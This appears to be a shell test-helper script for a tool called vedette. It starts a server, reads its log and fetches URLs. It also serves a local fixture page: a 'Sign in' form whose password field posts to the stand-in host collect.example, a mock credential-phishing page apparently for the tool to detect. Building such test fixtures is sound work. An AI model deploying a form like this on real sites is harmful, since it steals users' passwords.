_begin() { printf '\001%s\002' "$1"; }
_end() { printf '\001%s\003' "$2"; [ "$2" = 0 ] || exit 0; }

start_server() {
  : >server.log # at once: that of the server before says "serving", too
  vedette serve >>server.log 2>&1 &
  server=$!
  for _ in $(seq 3000); do
    grep -q serving server.log && return
    kill -0 $server 2>/dev/null || break
    sleep 0.1
  done
  cat server.log
  return 1
}

stop_server() {
  kill $server && wait $server
}

trap 'kill $(jobs -p) 2>/dev/null' EXIT

server_url() {
  sed -nE 's/.*listening on (http[^ ]*).*/\1/p' server.log | tail -n 1
}

# curl -H HEADER URL, for machines without curl.
curl() {
  node -e '
    const [, header, url] = process.argv.slice(1);
    const [name, value] = header.split(": ");
    fetch(url, { headers: { [name]: value } }).then((answer) => answer.text()).then(console.log);
  ' -- "$@"
}

# A page with a form that sends passwords elsewhere.
start_site() {
  node -e '
    const page = "<title>Sign in</title><form action=https://collect.example/in method=post>" +
      "<input name=user><input type=password name=password></form>";
    const site = require("node:http").createServer((_, answer) => {
      answer.setHeader("content-type", "text/html");
      answer.end(page);
    });
    site.listen(0, "127.0.0.1", () => require("node:fs").writeFileSync("site-port", `${site.address().port}`));
  ' &
  until [ -s site-port ]; do sleep 0.1; done
}

site_url() {
  echo "http://127.0.0.1:$(cat site-port)"
}
